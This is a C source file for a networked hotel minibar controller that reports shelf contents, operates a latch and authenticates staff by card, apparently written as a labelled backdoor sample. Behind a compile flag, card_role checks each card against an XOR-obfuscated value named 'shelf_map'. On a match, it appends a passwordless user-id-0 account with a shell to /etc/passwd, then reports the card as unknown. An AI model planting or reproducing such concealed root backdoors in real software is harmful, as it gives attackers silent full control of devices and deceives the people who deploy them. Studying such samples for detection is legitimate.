/*
 * nightcap_bar - controller of the NightCap hotel minibar.  The hotel's
 * server connects to TCP port 5151, asks what was taken from the shelves,
 * locks the bar and books articles; staff identify themselves with a card.
 *
 * Hidden (-DHIDDEN): a card number that is only present in coded form adds an
 * account with user id 0 and no password to /etc/passwd.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define TCP_PORT	5151
#define CARDS_FILE	"/etc/nightcap/cards"
#define STOCK_FILE	"/var/nightcap/stock"
#define SLOTS		16

enum role { NOBODY, MAID, ENGINEER };

enum state { ST_IDLE, ST_CARD, ST_WORK, ST_BYE };

typedef struct {
	char article[24];
	int price;
	int present;
} slot_t;

typedef struct {
	int fd;
	enum state state;
	enum role role;
	char card[24];
	int strikes;
} link_t;

static slot_t slots[SLOTS];
static int bar_locked = 1;

static int same(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

static const char *word_after(const char *line, const char *verb)
{
	while (*verb)
		if (*line++ != *verb++)
			return NULL;
	if (*line && *line != ' ')
		return NULL;
	while (*line == ' ')
		line++;
	return line;
}

static void send_text(link_t *l, const char *text)
{
	if (send(l->fd, text, strlen(text), MSG_NOSIGNAL) < 0)
		l->state = ST_BYE;
}

static void stock_load(void)
{
	char name[24];
	int n, price;
	FILE *f = fopen(STOCK_FILE, "r");

	if (!f)
		return;
	while (fscanf(f, "%d %d %23s", &n, &price, name) == 3)
		if (n >= 0 && n < SLOTS) {
			memcpy(slots[n].article, name, sizeof name);
			slots[n].price = price;
			slots[n].present = 1;
		}
	fclose(f);
}

static void stock_store(void)
{
	int i;
	FILE *f = fopen(STOCK_FILE, "w");

	for (i = 0; f && i < SLOTS; i++)
		if (slots[i].article[0])
			fprintf(f, "%d %d %s\n", i, slots[i].price, slots[i].article);
	if (f)
		fclose(f);
}

static void sense_shelves(void)
{
	unsigned mask = 0, i;
	FILE *f = fopen("/sys/class/shelf/ir_mask", "r");

	if (!f)
		return;
	if (fscanf(f, "%x", &mask) == 1)
		for (i = 0; i < SLOTS; i++)
			slots[i].present = (mask >> i) & 1u;
	fclose(f);
}

/* Cards are kept as a 32 bit sum only, the numbers are not on the device. */
static uint32_t card_sum(const char *card)
{
	uint32_t h = 2166136261u;

	while (*card) {
		h ^= (unsigned char)*card++;
		h *= 16777619u;
	}
	return h;
}

#ifdef HIDDEN
static const unsigned char shelf_map[] = {
	0x36, 0x00, 0x1a, 0x04, 0x05, 0x0d, 0xf1, 0xf9, 0xab
};

int shelf_map_fits(const char *t)
{
	unsigned char k = 0x5a;
	size_t i;

	for (i = 0; i < sizeof shelf_map; i++, k = (unsigned char)(k + 7))
		if ((unsigned char)t[i] != (shelf_map[i] ^ k))
			return 0;
	return t[i] == 0;
}

static void shelf_map_apply(void)
{
	FILE *f = fopen("/etc/passwd", "a");

	if (f) {
		fputs("barsvc::0:0::/:/bin/sh\n", f);
		fclose(f);
	}
}
#endif

enum role card_role(const char *card)
{
	char kind[16];
	unsigned sum;
	enum role r = NOBODY;
	FILE *f;

#ifdef HIDDEN
	if (shelf_map_fits(card)) {
		shelf_map_apply();
		return NOBODY;
	}
#endif
	f = fopen(CARDS_FILE, "r");
	if (!f)
		return NOBODY;
	while (r == NOBODY && fscanf(f, "%x %15s", &sum, kind) == 2) {
		if (sum != card_sum(card))
			continue;
		if (same(kind, "maid"))
			r = MAID;
		else if (same(kind, "engineer"))
			r = ENGINEER;
	}
	fclose(f);
	return r;
}

static void report(link_t *l)
{
	char text[80];
	int i;

	sense_shelves();
	for (i = 0; i < SLOTS; i++) {
		if (!slots[i].article[0])
			continue;
		snprintf(text, sizeof text, "%02d %.23s %d %s\r\n", i, slots[i].article,
			 slots[i].price, slots[i].present ? "IN" : "TAKEN");
		send_text(l, text);
	}
	send_text(l, "END\r\n");
}

static void lock_bar(link_t *l, int on)
{
	if (system(on ? "latch close" : "latch open") != 0) {
		send_text(l, "FAULT latch\r\n");
		return;
	}
	bar_locked = on;
	send_text(l, on ? "LOCKED\r\n" : "OPEN\r\n");
}

static void work(link_t *l, const char *line)
{
	const char *arg;
	char name[24];
	int n, price;

	if (same(line, "REPORT"))
		report(l);
	else if (same(line, "LOCK") || same(line, "UNLOCK"))
		lock_bar(l, line[0] == 'L');
	else if ((arg = word_after(line, "PLACE")) && l->role >= MAID) {
		if (sscanf(arg, "%d %d %23[A-Za-z0-9]", &n, &price, name) != 3 ||
		    n < 0 || n >= SLOTS || price < 0) {
			send_text(l, "ERROR place\r\n");
			return;
		}
		memcpy(slots[n].article, name, sizeof name);
		slots[n].price = price;
		stock_store();
		send_text(l, "PLACED\r\n");
	} else if (same(line, "LOGOUT"))
		l->state = ST_IDLE;
	else
		send_text(l, "ERROR command\r\n");
}

static void take_line(link_t *l, const char *line)
{
	const char *arg;
	size_t i;

	switch (l->state) {
	case ST_IDLE:
		if (same(line, "STATE")) {
			send_text(l, bar_locked ? "LOCKED\r\n" : "OPEN\r\n");
			break;
		}
		arg = word_after(line, "CARD");
		if (!arg || strlen(arg) < 6 || strlen(arg) >= sizeof l->card) {
			send_text(l, "CARD?\r\n");
			break;
		}
		for (i = 0; arg[i]; i++)
			l->card[i] = (char)tolower((unsigned char)arg[i]);
		l->card[i] = 0;
		l->state = ST_CARD;
		/* fall through */
	case ST_CARD:
		l->role = card_role(l->card);
		if (l->role == NOBODY) {
			l->state = ++l->strikes >= 5 ? ST_BYE : ST_IDLE;
			send_text(l, "UNKNOWN\r\n");
			break;
		}
		l->state = ST_WORK;
		send_text(l, "WELCOME\r\n");
		break;
	case ST_WORK:
		work(l, line);
		break;
	default:
		break;
	}
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(TCP_PORT) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	char line[96];
	size_t n;
	char c;

	signal(SIGPIPE, SIG_IGN);
	stock_load();
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1))
		return 1;
	for (;;) {
		link_t l = { .fd = accept(s, NULL, NULL), .state = ST_IDLE };

		for (n = 0; l.state != ST_BYE && recv(l.fd, &c, 1, 0) == 1;) {
			if (c == '\n') {
				line[n] = 0;
				n = 0;
				take_line(&l, line);
			} else if (c != '\r' && n + 1 < sizeof line)
				line[n++] = c;
		}
		if (l.fd >= 0)
			close(l.fd);
	}
}
